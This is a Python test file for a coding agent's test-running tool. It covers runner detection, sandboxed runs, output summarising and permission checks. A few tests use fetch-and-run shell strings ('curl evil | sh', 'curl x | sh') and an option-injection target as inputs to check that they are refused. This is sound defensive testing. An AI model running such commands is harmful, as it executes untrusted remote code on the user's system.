"""run_tests with real pytest projects in temp folders, in the real sandbox where it matters."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import sys
from pathlib import Path

import pytest

from agent.config import ConfigError, load_settings
from agent.events import ApprovalRequested, ToolFinished, ToolStarted
from agent.policy.permissions import Permissions
from agent.policy.rules import RuleBook
from tools.base import ToolContext, ToolError
from tools.registry import REGISTRY
from tools.reports import read_cargo, read_go_json, read_jest_json
from tools.sandbox import Sandbox, SandboxSettings, find_bubblewrap
from tools.tests import (
    Runner,
    RunTests,
    counts_line,
    detect,
    narrowed,
    render,
    reporting,
    runner_for,
)

from helpers import make_agent
from scripted_llm import Reply, ScriptedLLM, tool

HELPER = """
def check(value):
    assert value == 2, "value should be 2"
"""
TESTS = """
import json
import pytest
from helper import check

def test_ok():
    pass

def test_fails():
    check(1)

def test_in_library():
    json.loads("{bad")

@pytest.fixture
def broken():
    raise RuntimeError("fixture blew up")

def test_errors(broken):
    pass

@pytest.mark.skip(reason="not today")
def test_skipped():
    pass
"""


@pytest.fixture(autouse=True)
def python_on_path(monkeypatch: pytest.MonkeyPatch) -> None:
    """``python -m pytest`` in a test project finds this interpreter (which has pytest)."""
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")


@pytest.fixture
def project(ws: Path) -> Path:
    (ws / "helper.py").write_text(HELPER)
    (ws / "tests").mkdir()
    (ws / "tests" / "test_app.py").write_text(TESTS)
    (ws / "pytest.ini").write_text("[pytest]\npythonpath = .\n")
    return ws


async def run(ctx: ToolContext, **arguments: object) -> tuple[str, bool]:
    tool = RunTests.model_validate(arguments)
    tool.bind(ctx)
    result = await tool.run(ctx)
    return result.output, result.is_error


def sandboxed(ws: Path, tmp_path: Path) -> ToolContext:
    bubblewrap, why = find_bubblewrap()
    if bubblewrap is None:
        pytest.skip(why)
    sandbox = Sandbox(SandboxSettings(ws), bubblewrap)
    return ToolContext(workspace=ws, log_dir=tmp_path / "logs", sandbox=sandbox)


async def test_mixed_results_in_the_sandbox(project: Path, tmp_path: Path) -> None:
    ctx = sandboxed(project, tmp_path)
    output, failing = await run(ctx)
    assert failing
    first = output.splitlines()[0]
    assert first.startswith("2 failed, 1 passed, 1 skipped, 1 error in ")
    assert first.endswith("s")
    assert "FAILED tests/test_app.py::test_fails\n  AssertionError: value should be 2" in output
    # Workspace frames with their source, the test's and the helper's.
    assert "tests/test_app.py:10 in test_fails: check(1)" in output
    assert 'helper.py:3 in check: assert value == 2, "value should be 2"' in output
    # The standard library's frames are folded, not shown.
    assert "FAILED tests/test_app.py::test_in_library" in output
    assert "JSONDecodeError" in output
    assert "json/decoder.py" not in output
    assert "library frames folded" in output
    assert "ERROR tests/test_app.py::test_errors" in output
    assert "RuntimeError: fixture blew up" in output
    # The report was written outside the user's tree, and the whole output kept in a log.
    assert not list(project.rglob("*.xml"))
    log = Path(output.splitlines()[-1].removeprefix("Full log: "))
    assert "test_fails" in log.read_text()


async def test_all_passing(project: Path, ctx: ToolContext) -> None:
    output, failing = await run(ctx, target="tests/test_app.py::test_ok")
    assert not failing
    assert output.splitlines()[0].startswith("1 passed in ")


async def test_site_packages_frames_are_folded(ws: Path, ctx: ToolContext) -> None:
    (ws / "test_lib.py").write_text(
        "import pydantic\n\ndef test_model():\n    pydantic.TypeAdapter(int).validate_python('x')\n"
    )
    output, failing = await run(ctx)
    assert failing
    assert "test_lib.py:4 in test_model" in output
    assert "ValidationError" in output
    assert "site-packages" not in output
    assert "library frame" in output


async def test_collection_and_syntax_errors(project: Path, ctx: ToolContext) -> None:
    (project / "tests" / "test_broken.py").write_text("def test_x(:\n    pass\n")
    output, failing = await run(ctx)
    assert failing
    assert output.splitlines()[0].startswith("1 error in ")
    assert "Collection failed" in output
    assert "ERROR collecting tests/test_broken.py" in output
    assert "SyntaxError: invalid syntax" in output
    assert "_pytest" not in output


async def test_narrowing_to_a_file_an_id_and_a_keyword(project: Path, ctx: ToolContext) -> None:
    (project / "tests" / "test_other.py").write_text("def test_other():\n    pass\n")
    output, _ = await run(ctx, target="tests/test_other.py")
    assert output.startswith("1 passed in ")
    output, _ = await run(ctx, target="tests/test_app.py::test_fails")
    assert output.startswith("1 failed in ")
    output, _ = await run(ctx, keyword="fails or ok")
    assert output.startswith("1 failed, 1 passed in ")
    output, failing = await run(ctx, keyword="nothing_matches")
    assert failing
    assert output.startswith("no tests ran in ")
    assert "collected no tests" in output


def test_a_target_is_not_an_option() -> None:
    with pytest.raises(ValueError, match="not an option"):
        RunTests(target="--rootdir=/")


async def test_timeout_kills_the_run(ws: Path, ctx: ToolContext) -> None:
    (ws / "test_slow.py").write_text("import time\n\ndef test_slow():\n    time.sleep(30)\n")
    output, failing = await run(ctx, timeout=2)
    assert failing
    assert output.startswith("timed out after 2 s")


async def test_a_hundred_failures_stay_small(ws: Path, ctx: ToolContext) -> None:
    body = "".join(
        f"def test_{n}():\n    assert {n} == -1, 'number {n} is not minus one'\n\n"
        for n in range(100)
    )
    (ws / "test_many.py").write_text(body)
    output, failing = await run(ctx)
    assert failing
    assert output.startswith("100 failed in ")
    # Test ids are dense: 5,085 characters measured 1,683 tokens by litellm, so chars/3.
    assert len(output) / 3 < 2_000, len(output)
    shown = output.count("FAILED test_many.py::")
    assert 10 <= shown < 100
    assert f"… and {100 - shown} more not shown" in output
    assert "number 0 is not minus one" in output


async def test_nothing_to_run_says_what_to_do(ws: Path, ctx: ToolContext) -> None:
    tool = RunTests()
    tool.bind(ctx)
    assert tool.subject() == ""
    with pytest.raises(ToolError, match="test_command"):
        await tool.run(ctx)


async def test_the_users_test_command_runs_plain(ws: Path, tmp_path: Path) -> None:
    ctx = ToolContext(workspace=ws, log_dir=tmp_path / "logs", test_command="echo checking; exit 3")
    output, failing = await run(ctx)
    assert failing
    assert output.startswith("exit code 3 in ")
    assert "checking" in output


def test_detection(tmp_path: Path) -> None:
    def project(name: str, text: str) -> Path:
        folder = tmp_path / name
        folder.mkdir()
        (folder / name).write_text(text)
        return folder

    assert detect(project("pytest.ini", "[pytest]\n")).kind == "pytest"
    assert detect(project("go.mod", "module x\n")).command == "go test -json ./..."
    assert detect(project("package.json", json.dumps({"scripts": {"test": "vitest"}}))).command == (
        "npm test"
    )
    assert detect(project("Cargo.toml", "[package]\n")) == Runner("cargo", "cargo test")
    assert detect(project("Makefile", "test:\n\techo hi\n")).command == "make test"
    assert detect(project("README.md", "hello\n")) is None


def test_counts_are_worded_like_pytest() -> None:
    counts = {"passed": 5, "failed": 3, "skipped": 1, "error": 2}
    assert counts_line(counts, 0.421) == "3 failed, 5 passed, 1 skipped, 2 errors in 0.42s"
    assert counts_line({}, 0) == "no tests ran in 0.00s"


GO_EVENTS = [
    {"Action": "run", "Package": "ex/calc", "Test": "TestAdd"},
    {"Action": "output", "Package": "ex/calc", "Test": "TestAdd", "Output": "=== RUN   TestAdd\n"},
    {
        "Action": "output",
        "Package": "ex/calc",
        "Test": "TestAdd",
        "Output": "    calc_test.go:9: Add(1, 2) = 4, want 3\n",
    },
    {"Action": "fail", "Package": "ex/calc", "Test": "TestAdd", "Elapsed": 0},
    {"Action": "pass", "Package": "ex/calc", "Test": "TestSub", "Elapsed": 0},
    {"Action": "skip", "Package": "ex/calc", "Test": "TestMul", "Elapsed": 0},
    {"Action": "fail", "Package": "ex/calc", "Elapsed": 0.25},
    {"Action": "fail", "Package": "ex/broken", "Elapsed": 0.01},
]


def test_go_json_events() -> None:
    """Parsed from a recorded stream; a real ``go test`` runs below where go is installed."""
    stream = "\n".join(json.dumps(event) for event in GO_EVENTS)
    stream = "broken/x.go:3:1: syntax error: unexpected }\n" + stream
    report = read_go_json(stream)
    assert report is not None
    assert counts_line(report.counts, report.seconds) == (
        "1 failed, 1 passed, 1 skipped, 1 error in 0.26s"
    )
    failed, broken = report.problems
    assert failed.test_id == "ex/calc.TestAdd"
    assert failed.message == ["calc_test.go:9: Add(1, 2) = 4, want 3"]
    assert broken.test_id == "ex/broken"
    assert "syntax error" in broken.message[0]


@pytest.mark.skipif(shutil.which("go") is None, reason="go is not installed here")
async def test_real_go_test(ws: Path, ctx: ToolContext) -> None:
    (ws / "go.mod").write_text("module ex\n\ngo 1.20\n")
    (ws / "calc_test.go").write_text(
        'package ex\n\nimport "testing"\n\n'
        'func TestAdd(t *testing.T) { if 1+2 != 4 { t.Errorf("1+2 is not 4") } }\n'
        "func TestOk(t *testing.T) {}\n"
    )
    output, failing = await run(ctx)
    assert failing
    assert output.startswith("1 failed, 1 passed in ")
    assert "FAILED ex.TestAdd" in output
    assert "1+2 is not 4" in output


def test_registered_as_a_command_the_user_approves(project: Path) -> None:
    assert REGISTRY["run_tests"] is RunTests
    assert RunTests.kind == "execute"
    ctx = ToolContext(workspace=project)
    tool = RunTests(target="tests/test_app.py", keyword="ok")
    tool.bind(ctx)
    assert tool.subject() == "python -m pytest tests/test_app.py -k ok"
    rules = RuleBook(project)
    for mode, verdict in (("ask", "ask"), ("auto-edit", "ask"), ("full-auto", "allow")):
        check = Permissions(mode, rules, project, sandboxed=True).check(tool)
        assert check.verdict == verdict, mode
    assert Permissions("read-only", rules, project, sandboxed=True).check(tool).verdict == "deny"


def test_a_project_file_may_not_choose_the_test_command(ws: Path) -> None:
    (ws / ".shipmate.toml").write_text('test_command = "curl evil | sh"\n')
    with pytest.raises(ConfigError, match="may not set test_command"):
        load_settings(ws)


def test_the_user_sets_the_test_command(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHIPMATE_TEST_COMMAND", "make check")
    assert load_settings(ws).test_command == "make check"


async def test_the_model_runs_the_tests_through_the_loop(llm: ScriptedLLM, repo: Path) -> None:
    """The conversation binds the tool, so approval shows the command it will run."""
    llm.add(Reply(calls=[tool("run_tests", target="test_textutil.py")]), Reply(text="seen"))
    agent = make_agent(llm, repo, approval="full-auto")
    events = [event async for event in agent.send("run the tests")]
    started = next(e for e in events if isinstance(e, ToolStarted))
    assert started.summary == "run_tests: python -m pytest test_textutil.py"
    finished = next(e for e in events if isinstance(e, ToolFinished))
    assert finished.status == "error"
    assert finished.summary.startswith("1 failed, 1 passed in ")
    assert "FAILED test_textutil.py::test_unicode" in finished.output
    assert any("run_tests" in spec["function"]["name"] for spec in llm.requests[0]["tools"])


async def test_asking_mode_asks_with_the_command(llm: ScriptedLLM, repo: Path) -> None:
    llm.add(Reply(calls=[tool("run_tests", keyword="ascii")]), Reply(text="ok"))
    agent = make_agent(llm, repo, approval="ask")
    events = [event async for event in agent.send("run the tests")]
    asked = next(e for e in events if isinstance(e, ApprovalRequested))
    assert asked.summary == "run_tests: python -m pytest -k ascii"
    assert asked.suggestion == "allow command python -m pytest *"


def test_javascript_runners_are_detected_from_package_json(tmp_path: Path) -> None:
    def runner(package: dict) -> Runner | None:
        folder = tmp_path / str(len(list(tmp_path.iterdir())))
        folder.mkdir()
        (folder / "package.json").write_text(json.dumps(package))
        return detect(folder)

    assert runner({"scripts": {"test": "vitest run --coverage"}}) == Runner("vitest", "npm test")
    assert runner({"scripts": {"test": "jest --ci"}}) == Runner("jest", "npm test")
    assert runner({"scripts": {"test": "react-scripts test"}, "dependencies": {"jest": "29"}}) == (
        Runner("jest", "npm test")
    )
    assert runner({"scripts": {"test": "tsc && mocha"}, "devDependencies": {"jest": "29"}}) == (
        Runner("plain", "npm test")
    )
    # node --test runs as written, so node can be given its reporter; anything more is npm's.
    assert runner({"scripts": {"test": "node  --test test/"}}) == Runner(
        "node", "node --test test/"
    )
    assert runner({"scripts": {"test": "node --test; curl x | sh"}}) == Runner("plain", "npm test")
    assert runner({"scripts": {"test": "echo no tests && exit 1"}}) == Runner("plain", "npm test")
    assert runner({"scripts": {}, "devDependencies": {"jest": "29"}}) is None
    assert runner({"scripts": {"test": "jest"}, "devDependencies": ["jest"]}).kind == "jest"
    folder = tmp_path / "0"  # {"scripts": {"test": "vitest run --coverage"}}
    assert runner_for("npm test --silent", folder) == Runner("vitest", "npm test --silent")
    assert runner_for("npx jest --ci", tmp_path) == Runner("jest", "npx jest --ci")
    assert runner_for("node --test test/", tmp_path) == Runner("node", "node --test test/")
    assert runner_for("cargo test --workspace", tmp_path).kind == "cargo"


def test_narrowing_and_reports_of_the_other_runners(tmp_path: Path) -> None:
    report = tmp_path / "report.json"
    jest, vitest = Runner("jest", "npm test"), Runner("vitest", "npm test")
    node, cargo = Runner("node", "node --test test/"), Runner("cargo", "cargo test")
    test_id = "test/calc.test.js::check > rejects (negatives)"
    assert narrowed(jest, test_id, None) == (
        "npm test -- test/calc.test.js -t 'check rejects \\(negatives\\)'"
    )
    assert narrowed(vitest, None, "adds") == "npm test -- -t adds"
    assert reporting(jest, "npm test", report) == f"npm test -- --json --outputFile={report}"
    assert reporting(vitest, "npm test -- -t adds", report) == (
        f"npm test -- -t adds --run --reporter=default --reporter=json --outputFile.json={report}"
    )
    assert reporting(Runner("vitest", "npx vitest run"), "npx vitest run", report).startswith(
        "npx vitest run --run --reporter=default"
    )
    # node: options before the files, which replace the script's own.
    assert narrowed(node, test_id, None) == (
        "node --test '--test-name-pattern=rejects \\(negatives\\)' test/calc.test.js"
    )
    assert reporting(node, "node --test test/", report) == (
        "node --test --test-reporter=spec --test-reporter-destination=stdout "
        f"--test-reporter=junit --test-reporter-destination={report} test/"
    )
    # cargo: a test file is a target, a source file a module's tests, the rest name filters.
    assert narrowed(cargo, "tests/api.rs", None) == "cargo test --test api"
    assert narrowed(cargo, "src/lib.rs", "adds") == "cargo test --lib -- adds"
    assert narrowed(cargo, "src/parse/mod.rs", None) == "cargo test -- parse::"
    assert narrowed(cargo, "tests::adds", None) == "cargo test -- tests::adds"
    assert reporting(cargo, "cargo test --test api", report) == (
        "cargo test --no-fail-fast --test api"
    )
    with pytest.raises(ValueError, match="not an option"):
        RunTests(keyword="--exact")


@pytest.mark.parametrize("runner", ["jest", "vitest"])
def test_jest_and_vitest_json_reports(runner: str, ws: Path) -> None:
    """Reports jest 30 and vitest 4 really wrote (tests/fixtures/README.md says how)."""
    fixture = Path(__file__).parent / "fixtures" / f"{runner}-report.json"
    report = ws.parent / "report.json"
    report.write_text(fixture.read_text().replace("/WORKSPACE", str(ws)))
    parsed = read_jest_json(report, ws)
    assert parsed is not None
    lines = render(parsed.problems)
    text = "\n".join(lines)
    assert counts_line(parsed.counts, 0).startswith("2 failed, 1 passed, 1 skipped, 1 error in ")
    assert "FAILED test/calc.test.js::adds" in lines
    assert "FAILED test/calc.test.js::check > rejects negatives" in lines
    assert "  RangeError: value must not be negative" in lines
    assert "  src/calc.js:5 in check" in lines  # the innermost frame last, as Python's
    assert (
        lines.index("  src/calc.js:5 in check")
        == lines.index("  RangeError: value must not be negative") + 2
    )
    assert "ERROR collecting test/broken.test.js" in lines
    assert "library frames folded" in text
    assert "node_modules" not in text and str(ws) not in text
    if runner == "jest":
        assert "  Expected: 3" in lines and "  Received: 4" in lines
        assert "  test/calc.test.js:4 in Object.toBe" in lines
        assert "  SyntaxError: test/broken.test.js: Unexpected token (1:10)" in lines
    else:
        assert "  AssertionError: expected 4 to be 3 // Object.is equality" in lines
        assert "  Parse failure: Parse failed with 1 error:" in lines


def test_a_broken_json_report_is_no_report(ws: Path) -> None:
    report = ws.parent / "report.json"
    report.write_text('{"testResults": [{"assertionResults": 3}]}')
    assert read_jest_json(report, ws) is None
    report.write_text("{not json")
    assert read_jest_json(report, ws) is None


NODE_TESTS = """const test = require("node:test");
const assert = require("node:assert");
const { add } = require("../math");

test("adds", () => { assert.strictEqual(add(1, 2), 3); });
test("ok", () => { assert.ok(true); });
test.skip("skipped", () => {});
test.describe("group", () => {
  test.it("nested fails", () => { assert.deepStrictEqual({ a: 1 }, { a: 2 }); });
  test.it("nested ok", () => {});
});
"""


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed here")
async def test_real_node_test_in_the_sandbox(ws: Path, tmp_path: Path) -> None:
    (ws / "package.json").write_text(json.dumps({"scripts": {"test": "node --test"}}))
    (ws / "math.js").write_text("exports.add = (a, b) => a + b + 1;\n")
    (ws / "test").mkdir()
    (ws / "test" / "math.test.js").write_text(NODE_TESTS)
    (ws / "test" / "broken.test.js").write_text("const x = ;\n")
    ctx = sandboxed(ws, tmp_path)
    output, failing = await run(ctx)
    assert failing
    assert output.startswith("2 failed, 2 passed, 1 skipped, 1 error in ")
    assert "Collection failed" in output
    assert "ERROR collecting test/broken.test.js\n  SyntaxError: Unexpected token ';'" in output
    assert (
        "FAILED test/math.test.js::adds\n"
        "  AssertionError [ERR_ASSERTION]: Expected values to be strictly equal:\n"
        "  4 !== 3\n"
        "  test/math.test.js:5 in TestContext.<anonymous>\n"
    ) in output
    assert "FAILED test/math.test.js::group > nested fails" in output
    assert "library frames folded" in output and "node:internal" not in output
    assert not list(ws.rglob("*.xml"))
    output, _ = await run(ctx, target="test/math.test.js::group > nested fails")
    assert output.startswith("1 failed, 4 skipped in ")  # node counts those left out as skipped


CRATE_LIB = """/// Adds one more than asked.
///
/// ```
/// assert_eq!(calc::add(1, 1), 3);
/// ```
pub fn add(a: i32, b: i32) -> i32 {
    a + b + 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn adds() {
        assert_eq!(add(1, 2), 3, "sum is wrong");
    }

    #[test]
    fn passes() {
        assert_eq!(add(0, 0), 1);
    }

    #[test]
    #[ignore = "not today"]
    fn ignored() {}
}
"""
CRATE_TEST = """#[test]
fn panics() {
    let empty: Vec<i32> = Vec::new();
    println!("about to fail");
    let _ = empty[3];
}
"""


@pytest.fixture
def rust(monkeypatch: pytest.MonkeyPatch) -> None:
    """cargo through rustup finds its toolchains in the real home (the tests' is a temp one)."""
    if shutil.which("cargo") is None:
        pytest.skip("cargo is not installed here")
    home = Path(pwd.getpwuid(os.getuid()).pw_dir)
    for name, folder in (("RUSTUP_HOME", ".rustup"), ("CARGO_HOME", ".cargo")):
        if name not in os.environ and (home / folder).is_dir():
            monkeypatch.setenv(name, str(home / folder))


async def test_real_cargo_test_in_the_sandbox(ws: Path, tmp_path: Path, rust: None) -> None:
    """A crate without dependencies builds offline; stable cargo, no -Z flags."""
    (ws / "Cargo.toml").write_text(
        '[package]\nname = "calc"\nversion = "0.1.0"\nedition = "2021"\n'
    )
    (ws / "src").mkdir()
    (ws / "src" / "lib.rs").write_text(CRATE_LIB)
    (ws / "tests").mkdir()
    (ws / "tests" / "api.rs").write_text(CRATE_TEST)
    ctx = sandboxed(ws, tmp_path)
    output, failing = await run(ctx)
    assert failing
    # Every test binary ran (--no-fail-fast), the doc-test too.
    assert output.startswith("2 failed, 2 passed, 1 skipped in ")
    assert (
        "FAILED tests::adds\n"
        "  assertion `left == right` failed: sum is wrong\n"
        "    left: 4\n"
        "   right: 3\n"
        "  src/lib.rs:16\n"
    ) in output
    assert "FAILED panics\n  index out of bounds: the len is 0 but the index is 3\n" in output
    assert "  about to fail\n  tests/api.rs:5\n" in output
    ctx.output_limit = 400  # what the model would see is cut: the results come from the log
    assert (await run(ctx))[0].startswith("2 failed, 2 passed, 1 skipped in ")
    ctx.output_limit = 30_000
    output, _ = await run(ctx, target="tests/api.rs")
    assert output.startswith("1 failed in ")
    (ws / "src" / "lib.rs").write_text(CRATE_LIB.replace("a + b + 1", 'a + b + "1"'))
    output, failing = await run(ctx)
    assert failing
    assert output.startswith("1 error in ")
    assert "The build failed, so the tests did not run." in output
    assert "ERROR compiling src/lib.rs:7:11\n  cannot add `&str` to `i32`" in output


def test_a_hundred_cargo_failures_stay_small(ws: Path) -> None:
    """cargo's output in the form the real run above prints, at a size not worth compiling."""
    names = [f"parser::tests::rejects_a_number_out_of_range_{n}" for n in range(100)]
    sections = "".join(
        f"---- {name} stdout ----\n\nthread '{name}' (7) panicked at src/lib.rs:{n + 10}:9:\n"
        f"assertion `left == right` failed: case {n} is wrong\n  left: {n}\n right: -1\n"
        "note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n\n"
        for n, name in enumerate(names)
    )
    output = (
        "running 100 tests\n"
        + "".join(f"test {name} ... FAILED\n" for name in names)
        + f"\nfailures:\n\n{sections}\nfailures:\n"
        + "".join(f"    {name}\n" for name in names)
        + "\ntest result: FAILED. 0 passed; 100 failed; 0 ignored; 0 measured; "
        "0 filtered out; finished in 0.01s\n"
    )
    report = read_cargo(output, ws)
    assert report is not None
    lines = [counts_line(report.counts, report.seconds), *render(report.problems)]
    text = "\n".join(lines)
    assert lines[0] == "100 failed in 0.01s"
    assert len(text) / 3 < 2_000
    assert (
        "FAILED parser::tests::rejects_a_number_out_of_range_0\n"
        "  assertion `left == right` failed: case 0 is wrong\n"
    ) in text
    assert "  src/lib.rs:10\n" in text
    shown = text.count("FAILED parser::tests::")
    assert shown < 100
    assert f"… and {100 - shown} more not shown" in text


async def test_no_stale_bytecode_after_a_same_second_edit(ws: Path, ctx: ToolContext) -> None:
    """Python trusts a cached module whose source has the same size and mtime (in whole
    seconds): an edit right after a run (auto-test's first) must still be what runs."""
    (ws / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (ws / "test_calc.py").write_text(
        "from calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n"
    )
    before = (ws / "calc.py").stat()
    output, failing = await run(ctx)
    assert not failing, output
    (ws / "calc.py").write_text("def add(a, b):\n    return a - b\n")  # the same size
    os.utime(ws / "calc.py", ns=(before.st_atime_ns, before.st_mtime_ns))
    output, failing = await run(ctx)
    assert failing and output.startswith("1 failed in "), output
    assert not list(ws.rglob("__pycache__"))
